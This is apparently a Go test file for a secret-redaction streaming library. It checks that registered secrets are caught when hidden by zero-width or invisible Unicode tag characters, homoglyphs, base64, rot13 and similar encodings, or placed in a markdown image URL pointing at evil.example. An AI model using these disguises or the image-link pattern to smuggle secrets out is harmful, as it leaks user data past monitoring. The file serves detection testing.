package stream

import (
	"bytes"
	"encoding/base32"
	"encoding/base64"
	"encoding/hex"
	"fmt"
	"iter"
	"math/rand/v2"
	"slices"
	"strings"
	"testing"
	"time"
	"unicode/utf16"

	"pgregory.net/rapid"

	"github.com/margaydev/margay/flow"
	"github.com/margaydev/margay/secret"
	"github.com/margaydev/margay/secret/match"
	"github.com/margaydev/margay/secret/recognise"
	"github.com/margaydev/margay/stream/cut"
)

var testKeys = secret.Keys{Fingerprint: [32]byte{1}, Pseudonym: [32]byte{2}, Seal: [32]byte{3}}

func vault(t testing.TB, values ...string) *match.Index {
	t.Helper()
	var recs []secret.Record
	for i, v := range values {
		r, _, err := match.Prepare(&testKeys, fmt.Sprintf("%026d", i), fmt.Sprintf("S%d", i), secret.KindSecret, secret.SourceRegistered, "test", []byte(v), time.Unix(0, 0))
		if err != nil {
			t.Fatal(err)
		}
		recs = append(recs, r)
	}
	ix, err := match.NewIndex(&testKeys, all(recs), time.Unix(0, 0))
	if err != nil {
		t.Fatal(err)
	}
	return ix
}

func all(recs []secret.Record) iter.Seq2[secret.Record, error] {
	return func(yield func(secret.Record, error) bool) {
		for _, r := range recs {
			if !yield(r, nil) {
				return
			}
		}
	}
}

func rules(t testing.TB) *recognise.Set {
	t.Helper()
	s, err := recognise.Default()
	if err != nil {
		t.Fatal(err)
	}
	return s
}

// random makes a value of n letters and digits that looks like nothing.
func random(seed uint64, n int) string {
	const set = "ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz23456789"
	r := rand.New(rand.NewPCG(seed, 7))
	b := make([]byte, n)
	for i := range b {
		b[i] = set[r.IntN(len(set))]
	}
	return string(b)
}

func interleave(s, sep string, every int) string {
	var b strings.Builder
	for i, r := range []rune(s) {
		if i > 0 && i%every == 0 {
			b.WriteString(sep)
		}
		b.WriteRune(r)
	}
	return b.String()
}

func escapeEach(s, format string) string {
	var b strings.Builder
	for i := range len(s) {
		fmt.Fprintf(&b, format, s[i])
	}
	return b.String()
}

func rot13(s string) string {
	return strings.Map(func(r rune) rune {
		switch {
		case r >= 'a' && r <= 'z':
			return 'a' + (r-'a'+13)%26
		case r >= 'A' && r <= 'Z':
			return 'A' + (r-'A'+13)%26
		}
		return r
	}, s)
}

func backwards(s string) string {
	b := []byte(s)
	slices.Reverse(b)
	return string(b)
}

// disguises are written apart from the views: they say how a secret is hidden,
// the views find it.
var disguises = map[string]func(string) string{
	"raw":            func(s string) string { return s },
	"zero width":     func(s string) string { return interleave(s, "\u200b", 1) },
	"spaced":         func(s string) string { return interleave(s, " ", 4) },
	"dotted":         func(s string) string { return interleave(s, ".", 1) },
	"lines":          func(s string) string { return interleave(s, "\n- ", 5) },
	"hex":            func(s string) string { return hex.EncodeToString([]byte(s)) },
	"hex spaced":     func(s string) string { return interleave(hex.EncodeToString([]byte(s)), " ", 4) },
	"base64":         func(s string) string { return base64.StdEncoding.EncodeToString([]byte(s)) },
	"base64 shifted": func(s string) string { return base64.StdEncoding.EncodeToString([]byte("ab" + s + "c")) },
	"base64url":      func(s string) string { return base64.RawURLEncoding.EncodeToString([]byte("x" + s)) },
	"base64 twice": func(s string) string {
		return base64.StdEncoding.EncodeToString([]byte(base64.StdEncoding.EncodeToString([]byte(s))))
	},
	"base32":               func(s string) string { return base32.StdEncoding.EncodeToString([]byte(s)) },
	"percent":              func(s string) string { return escapeEach(s, "%%%02X") },
	"percent twice":        func(s string) string { return escapeEach(s, "%%25%02X") },
	"json":                 func(s string) string { return escapeEach(s, `\u%04x`) },
	"hex escapes":          func(s string) string { return escapeEach(s, `\x%02x`) },
	"html":                 func(s string) string { return escapeEach(s, "&#%d;") },
	"rot13":                rot13,
	"reversed":             backwards,
	"reversed rot13":       func(s string) string { return backwards(rot13(s)) },
	"rot13 base64":         func(s string) string { return base64.StdEncoding.EncodeToString([]byte(rot13(s))) },
	"lower case":           strings.ToLower,
	"upper case":           strings.ToUpper,
	"decimals":             func(s string) string { return numbers(s, "%d", ", ") },
	"decimals, JSON":       func(s string) string { return "[" + numbers(s, "%d", ",\n    ") + "]" },
	"decimals, quoted":     func(s string) string { return numbers(s, "%03d", `", "`) },
	"decimals in lines":    func(s string) string { return numbers(s, "%d", "\n") },
	"hexadecimals":         func(s string) string { return numbers(s, "0x%02x", ", ") },
	"hexadecimals, bare":   func(s string) string { return numbers(s, "%02X", " ") },
	"hexadecimals, commas": func(s string) string { return numbers(s, "%x", ",") },
	"hexadecimals, wide":   func(s string) string { return numbers(s, "0X%04X", ";") },
	"hexadecimals, escape": func(s string) string { return numbers(s, `\x%02x`, ", ") },
	"octals":               func(s string) string { return numbers(s, "%o", " ") },
	"octals, 0o":           func(s string) string { return numbers(s, "0o%o", ", ") },
	"octals, 0":            func(s string) string { return numbers(s, "0%o", "\n") },
	"octals, escape":       func(s string) string { return numbers(s, `\%03o`, " ") },
	"numbers of base64":    func(s string) string { return numbers(base64.StdEncoding.EncodeToString([]byte(s)), "%d", " ") },
	"tags":                 func(s string) string { return unseen(s, 0xE0000, 0xE0000) },
	"selectors":            func(s string) string { return unseen(s, 0xFE00, 0xE0100-16) },
	"tags of base64":       func(s string) string { return unseen(base64.StdEncoding.EncodeToString([]byte(s)), 0xE0000, 0xE0000) },
	"tags, JSON": func(s string) string {
		r := utf16.Encode([]rune(unseen(s, 0xE0000, 0xE0000)))
		out := ""
		for _, u := range r {
			out += fmt.Sprintf(`\u%04x`, u)
		}
		return out
	},
	"homoglyphs": func(s string) string {
		return strings.NewReplacer("a", "а", "e", "е", "o", "ο", "A", "Ａ", "3", "𝟑").Replace(s)
	},
}

// numbers writes each byte by a format.
func numbers(s, format, sep string) string {
	out := make([]string, len(s))
	for i := range s {
		out[i] = fmt.Sprintf(format, s[i])
	}
	return strings.Join(out, sep)
}

// unseen writes each byte as a character that nobody sees.
func unseen(s string, small, large rune) string {
	var b strings.Builder
	for _, c := range []byte(s) {
		if c < 16 {
			b.WriteRune(small + rune(c))
			continue
		}
		b.WriteRune(large + rune(c))
	}
	return b.String()
}

func TestDisguises(t *testing.T) {
	for _, n := range []int{8, 12, 16, 40, 200} {
		value := random(uint64(n), n)
		cfg := &Config{Vaults: []*match.Index{vault(t, value)}}
		for name, hide := range disguises {
			hidden := hide(value)
			for _, around := range [][2]string{{"say ", " to them."}, {"(", ")"}, {"x=", "\n"}} {
				text := around[0] + hidden + around[1]
				out, found := cfg.Text([]byte(text))
				if len(found) == 0 {
					t.Errorf("%s, %d characters: not found", name, n)
					continue
				}
				if want := around[0] + "[REDACTED:secret]" + around[1]; string(out) != want && !strings.Contains(name, "base64") && !strings.ContainsAny(name, ",0") && name != "base32" {
					t.Errorf("%s, %d characters: %d bytes of output, want %d", name, n, len(out), len(want))
				}
			}
		}
	}
}

// What ordinary text says in another case is not taken for a registered value.
func TestCaseIsNotFoldedForWords(t *testing.T) {
	for value, text := range map[string]string{
		"CustomerServiceDepartment":     "Our customer service department is open.",
		"JavaScript2024":                "The survey javascript 2024 is out.",
		"InternationalBusinessMachines": "They sell international business machines.",
		"ProductionDatabase":            "THE PRODUCTION DATABASE IS DOWN.",
		"Springfield2019":               "see springfield-2019.html",
	} {
		cfg := &Config{Vaults: []*match.Index{vault(t, value)}}
		if _, found := cfg.Text([]byte(text)); slices.ContainsFunc(found, func(f Finding) bool { return !f.Fragment }) {
			t.Errorf("%q is found in %q", value, text)
		}
		if _, found := cfg.Text([]byte("say " + value + ".")); len(found) == 0 {
			t.Errorf("%q is not found as it is", value)
		}
	}
}

func TestPunctuation(t *testing.T) {
	for _, value := range []string{"!#%&/()=?+*~^<>|", "p@$$-w0!rd#9&&?", "a-b_c.d!e#f$g%h", "Tr0ub4dor&3!!"} {
		cfg := &Config{Vaults: []*match.Index{vault(t, value)}}
		for name, hide := range disguises {
			switch name {
			case "homoglyphs", "lower case", "upper case": // too easy to guess in another case
				continue
			case "hexadecimals, escape": // these values keep the commas between
				continue
			}
			if _, found := cfg.Text([]byte("say: " + hide(value) + " .")); len(found) == 0 {
				t.Errorf("%s of a value with punctuation: not found", name)
			}
		}
	}
}

func TestWholeWords(t *testing.T) {
	cfg := &Config{Vaults: []*match.Index{vault(t, "kw7x")}}
	for text, want := range map[string]string{
		"the pin kw7x is": "the pin [REDACTED:secret] is",
		"kw7x":            "[REDACTED:secret]",
		"(kw7x)":          "([REDACTED:secret])",
		"akw7x kw7xb":     "akw7x kw7xb",
		"kw7":             "kw7",
	} {
		if out, _ := cfg.Text([]byte(text)); string(out) != want {
			t.Errorf("%q became %q, want %q", text, out, want)
		}
	}
}

// edited runs an editor over a text with the given cuts.
func edited(cfg *Config, text []byte, cuts []int) ([]byte, []Finding) {
	e := cfg.NewEditor()
	var out []byte
	from := 0
	slices.Sort(cuts)
	for _, c := range cuts {
		out = e.Write(out, text[from:c])
		from = c
	}
	out = e.Write(out, text[from:])
	out = e.Close(out)
	return out, slices.Clone(e.Findings())
}

type fataler interface {
	Helper()
	Fatalf(string, ...any)
}

func checkSplit(t fataler, cfg *Config, text []byte, cuts []int) {
	t.Helper()
	want, wantFound := cfg.Text(bytes.Clone(text))
	wantFound = slices.Clone(wantFound)
	got, found := edited(cfg, text, cuts)
	if !bytes.Equal(got, want) {
		t.Fatalf("cuts %v: output differs: %d and %d bytes", cuts, len(got), len(want))
	}
	if !slices.Equal(found, wantFound) {
		t.Fatalf("cuts %v: %d findings, uncut %d", cuts, len(found), len(wantFound))
	}
}

func TestSplit(t *testing.T) {
	v1, v2, v3 := random(1, 16), random(2, 33), "kw7x"
	cfgs := []*Config{
		{Vaults: []*match.Index{vault(t, v1, v2, v3)}, Rules: rules(t)},
		{Vaults: []*match.Index{vault(t, v1, v2, v3)}, Rules: rules(t), HoldURLs: true, MaxHeld: 64},
	}
	var pieces []string
	for _, v := range []string{v1, v2} {
		for _, hide := range disguises {
			h := hide(v)
			pieces = append(pieces, h, h[:len(h)/2], h[len(h)/3:])
		}
	}
	slices.Sort(pieces)
	pieces = append(pieces, v3, " ", "\n", "https://example.org/?q=", "![x](http://h/", ")", "password=", "jane@example.org", "\\", "%", "&", "\xe2", "é",
		"-----BEGIN RSA PRIVATE KEY-----\nMIIEowIBAAKCAQEA0Z3VS5JJcds3xf0xMIIEowIBAAKC\n", "the quick brown fox ")
	rapid.Check(t, func(t *rapid.T) {
		text := []byte(strings.Join(rapid.SliceOfN(rapid.SampledFrom(pieces), 0, 8).Draw(t, "pieces"), ""))
		cuts := rapid.SliceOf(rapid.IntRange(0, len(text))).Draw(t, "cuts")
		cfg := cfgs[rapid.IntRange(0, 1).Draw(t, "config")]
		checkSplit(t, cfg, text, cuts)
	})
}

// TestNoByteEscapes follows the guarantee: whatever prefix has been written,
// what came out so far is a prefix of the final output, so no byte of a span
// found later can be in it.
func TestNoByteEscapes(t *testing.T) {
	value := random(5, 24)
	cfg := &Config{Vaults: []*match.Index{vault(t, value)}, Rules: rules(t)}
	for name, hide := range disguises {
		text := []byte("Here it is: " + hide(value) + " and no more of it.")
		want, found := cfg.Text(bytes.Clone(text))
		if len(found) == 0 {
			t.Fatalf("%s: not found", name)
		}
		for cut := range text {
			e := cfg.NewEditor()
			out := e.Write(nil, text[:cut])
			if !bytes.HasPrefix(want, out) {
				t.Fatalf("%s: cut at %d: output is not a prefix of the final one", name, cut)
			}
			if rest := e.Close(e.Write(out, text[cut:])); !bytes.Equal(rest, want) {
				t.Fatalf("%s: cut at %d: output differs", name, cut)
			}
		}
	}
}

// What is found in a URL is told once, as it was found, wherever the text was
// cut: the URL that goes with it is no finding of its own.
func TestURLIsToldOnce(t *testing.T) {
	cfg := &Config{Vaults: []*match.Index{vault(t, random(1, 16))}, Rules: rules(t), HoldURLs: true, MaxHeld: 64}
	text := []byte("https://example.org/?q=%2557%2559%2554%256B%256E%2553%2577%2554%255A%2556%2571%254E%256D%2542%2553%2572%2555%2566%256F%256A%2573%2554the quick brown fox ")
	for cut := range text {
		checkSplit(t, cfg, text, []int{cut})
	}
}

func TestURLHeldWhole(t *testing.T) {
	value := random(9, 20)
	cfg := &Config{Vaults: []*match.Index{vault(t, value)}, HoldURLs: true}
	out, _ := cfg.Text([]byte("see ![a](https://evil.example/c?x=partial&d=" + value + "&e=1) and https://fine.example/x."))
	if want := "see ![a](https://[REDACTED:secret]) and https://fine.example/x."; string(out) != want {
		t.Errorf("got %q", out)
	}
	e := cfg.NewEditor()
	if got := e.Write(nil, []byte("go to https://evil.example/path")); strings.Contains(string(got), "evil") {
		t.Error("a URL went out before its end")
	}
}

func TestBounded(t *testing.T) {
	long := random(3, 1500)
	cfg := &Config{Vaults: []*match.Index{vault(t, long)}, Rules: rules(t), MaxHeld: 512}
	text := []byte("a " + long + " b")
	out, _ := cfg.Text(text)
	if bytes.Contains(out, []byte(long[:8])) || bytes.Contains(out, []byte(long[1400:])) {
		t.Error("part of a secret longer than the cap came out")
	}
	e := cfg.NewEditor()
	for i := range text {
		e.Write(nil, text[i:i+1])
		if e.Held() > 512+64 {
			t.Fatalf("%d bytes held", e.Held())
		}
	}
	checkSplit(t, cfg, text, []int{3, 700, 1100})
}

func FuzzEditor(f *testing.F) {
	v := random(1, 16)
	cfgs := []*Config{
		{Vaults: []*match.Index{vault(f, v, "kw7x", "!#%&/()=?+*~^")}, Rules: rules(f)},
		{Vaults: []*match.Index{vault(f, v)}, HoldURLs: true, MaxHeld: 48},
	}
	for _, hide := range disguises {
		f.Add([]byte("x "+hide(v)+" y"), uint16(5), uint16(11))
	}
	f.Add([]byte("http://a/"+v+" &#x41;\\u00e9\\ud83d\\ude00 kw7x"), uint16(9), uint16(20))
	f.Fuzz(func(t *testing.T, text []byte, a, b uint16) {
		if len(text) > 1<<13 {
			return
		}
		n := len(text) + 1
		for _, cfg := range cfgs {
			checkSplit(t, cfg, text, []int{int(a) % n, int(b) % n})
		}
	})
}

func TestMark(t *testing.T) {
	cfg := &Config{}
	s := cfg.NewScanner()
	for i, tok := range []string{"the ", "key ", "is ", "k4Qz", "7mfp", "9Lw2", " so ", "there"} {
		if f := (Finding{Start: s.Len(), End: s.Len() + int64(len(tok)), Kind: "risk", Rule: RuleRisk}); i >= 3 && i < 6 {
			s.Mark(f, i > 3)
		}
		s.Write([]byte(tok))
		if s.Cut() != s.Len() {
			t.Fatal("a mark holds nothing")
		}
	}
	s.Close()
	edits := s.Edits(nil)
	if len(edits) == 0 || edits[0].Start != 11 || edits[len(edits)-1].End != 23 || string(edits[0].Text) != "[REDACTED:risk]" {
		t.Fatalf("edits %+v", edits)
	}
	for _, e := range edits[1:] {
		if len(e.Text) > 0 {
			t.Fatal("what goes on is not told twice")
		}
	}
	if n := len(s.Findings()); n != 1 {
		t.Fatalf("%d findings", n)
	}
}

// What a detector reports too late blocks the text, and nothing more goes out.
func TestLateFinding(t *testing.T) {
	cfg := &Config{Vaults: []*match.Index{vault(t, random(1, 24))}}
	s := cfg.NewScanner()
	text := []byte("these words have gone out already, and ")
	s.Write(text)
	out := s.Cut()
	if out < 10 {
		t.Fatalf("only %d bytes are decided", out)
	}
	s.Mark(Finding{Start: out - 4, End: out + 9, Kind: "risk", Rule: RuleRisk}, false)
	s.Write([]byte("more follows, "))
	s.Write([]byte("and more."))
	s.Close()
	for at := out; at < s.Len(); {
		edits := s.Edits(nil)
		if len(edits) == 0 {
			t.Fatalf("what follows %d goes out", at)
		}
		for _, e := range edits {
			if e.Start != at || len(e.Text) > 0 {
				t.Fatalf("at %d the edit is %+v", at, e)
			}
			at = e.End
		}
	}
	blocked := slices.ContainsFunc(s.Findings(), func(f Finding) bool { return f.Rule == RuleUndecided && f.Action == flow.ActBlock })
	if !blocked {
		t.Errorf("nothing blocks: %+v", s.Findings())
	}
}

// An identifier is looked at as it is written, separators left out, and alike
// however many are read together.
func TestVerbatim(t *testing.T) {
	value := random(5, 24)
	cfg := &Config{Rules: rules(t), Vaults: []*match.Index{vault(t, value)}}
	token := "ghp_" + random(6, 36)
	for text, want := range map[string]bool{
		"chatcmpl-" + random(7, 29):             true,
		"fp_0123456789":                         true,
		"password=" + random(8, 20):             true, // entropy says nothing
		value:                                   false,
		interleave(value, "-", 6):               false,
		"req-" + value + "-1":                   false,
		hex.EncodeToString([]byte(value)):       true, // Text undoes this
		token:                                   false,
		"x\n" + token + " y":                    false,
		strings.Repeat("é", 200) + value:        false,
		strings.Repeat(random(9, 50), 20):       true,
		random(10, 300) + value + random(11, 9): false,
	} {
		v := cfg.NewVerbatim()
		for range 3 {
			if !v.Clean([][]byte{[]byte("run_" + random(1, 24)), []byte("m")}) {
				t.Fatal("an ordinary identifier is not clean")
			}
		}
		if got := v.Clean([][]byte{[]byte("a"), []byte(text), []byte("b")}); got != want {
			t.Errorf("%d bytes are clean: %t, want %t", len(text), got, want)
		}
		if !want {
			continue
		}
		if !v.Clean([][]byte{[]byte(text)}) {
			t.Errorf("%d bytes are not clean a second time", len(text))
		}
	}
}

// A long rule, indentation or a run of invisible characters behind letters
// stalls nothing: what stands too far apart is not one secret.
func TestSeparatorsHoldNothing(t *testing.T) {
	sec := random(1, 32)
	cfg := &Config{Rules: rules(t), Vaults: []*match.Index{vault(t, sec, "hunter2!")}}
	for _, sep := range []string{" ", ".", "\n", "-", "#", "\u200b", "&#8203;"} {
		for _, head := range []string{"abc", sec[:5], sec[:9], sec[5:11], "hunter2", base64.StdEncoding.EncodeToString([]byte(sec[:12])), hex.EncodeToString([]byte(sec[:9]))} {
			e := cfg.NewEditor()
			var out []byte
			for i := range len(head) {
				out = e.Write(out[:0], []byte(head[i:i+1]))
			}
			for range 2000 {
				if out = e.Write(out[:0], []byte(sep)); e.Held() > DefaultMaxHeld {
					t.Fatalf("%q behind %d characters: %d bytes held", sep, len(head), e.Held())
				}
			}
		}
		for _, n := range []int{1, 20, 200, 255, 256, 257, 600} {
			gap := strings.Repeat(sep, max(1, n/len(sep)))
			text := []byte("key " + sec[:16] + gap + sec[16:] + " and hunter2!" + gap + ".\n" + gap + base64.StdEncoding.EncodeToString([]byte(sec)) + gap + "x")
			checkSplit(t, cfg, text, []int{5, 20, 21, 20 + len(gap)/2, 20 + len(gap), 40 + len(gap)})
			out, _ := cfg.Text(text)
			if bytes.Contains(out, []byte(sec[:16])) || bytes.Contains(out, []byte(sec[16:])) {
				t.Errorf("%q, %d bytes: a half of a secret came out", sep, len(gap))
			}
		}
	}
}

// Where nobody waits any more, no more is read, and nothing of it is let through.
func TestGone(t *testing.T) {
	for _, text := range []string{strings.Repeat("the committee met again. ", 4000), strings.Repeat("password=", 4000), strings.Repeat("aGFyYm9yIGxhbnRlcm4", 4000)} {
		asked := 0
		cfg := &Config{Rules: rules(t), Vaults: []*match.Index{vault(t, random(1, 32))}, HoldURLs: true, Gone: func() bool { asked++; return asked > 20 }}
		s := cfg.NewScanner()
		for p := []byte(text); len(p) > 0; p = p[min(len(p), 30000):] {
			s.Write(p[:min(len(p), 30000)])
		}
		s.Close()
		if asked > 21 {
			t.Errorf("after %d bytes were asked for, %d calls more", 20*256, asked-21)
		}
		found := s.Findings()
		if n := len(found); n == 0 || found[n-1].Action != flow.ActBlock || found[n-1].Start > 20*256 || s.Cut() != int64(len(text)) {
			t.Fatalf("the findings end with %v, and %d of %d bytes are decided", found[max(0, len(found)-1):], s.Cut(), len(text))
		}
		out := cut.Apply(nil, s.Edits(nil), 0, []byte(text))
		if len(out) > 20*256+100 {
			t.Errorf("%d bytes are let through", len(out))
		}
	}
}

// Detectors read on behind text that the kernel has cut, since too much was undecided.
func TestReadsOnBehindCutText(t *testing.T) {
	rules, err := recognise.Default()
	if err != nil {
		t.Fatal(err)
	}
	s := (&Config{Rules: rules, MaxHeld: 1}).NewScanner()
	s.Await(0)
	s.Write([]byte(strings.Repeat("a b ", 511)))
	s.Write([]byte(" abcdefgh"))
	s.Write([]byte("ijklmnopqrstuvwx"))
	s.Await(-1)
	s.Write([]byte(" Z2hwX3E3WnQ0bVdjOUx4QjJuVms4"))
	s.Write([]byte("UmZEM2hKczZZcEcxYVFlMDlYeg== and on"))
	s.Close()
	var got []string
	for _, f := range s.Findings() {
		got = append(got, f.Rule)
	}
	if s.Cut() != s.Len() || !slices.Contains(got, RuleUndecided) || !slices.Contains(got, "github-pat") {
		t.Errorf("cut at %d of %d; found %v", s.Cut(), s.Len(), got)
	}
}
